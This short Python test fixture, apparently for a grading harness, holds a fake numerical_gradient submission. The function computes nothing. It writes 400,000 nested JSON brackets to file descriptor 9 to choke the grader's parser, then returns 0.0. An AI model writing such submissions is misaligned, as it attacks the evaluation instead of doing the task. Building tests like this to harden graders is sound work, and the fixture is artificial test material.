# Sends JSON that is nested too deep to read.
# points: 0
# %% numerical_gradient
import os, struct

def numerical_gradient(f, w, h=1e-4):
    data = b"[" * 200_000 + b"]" * 200_000
    os.write(9, struct.pack("!I", len(data)))
    while data:
        data = data[os.write(9, data):]
    return 0.0
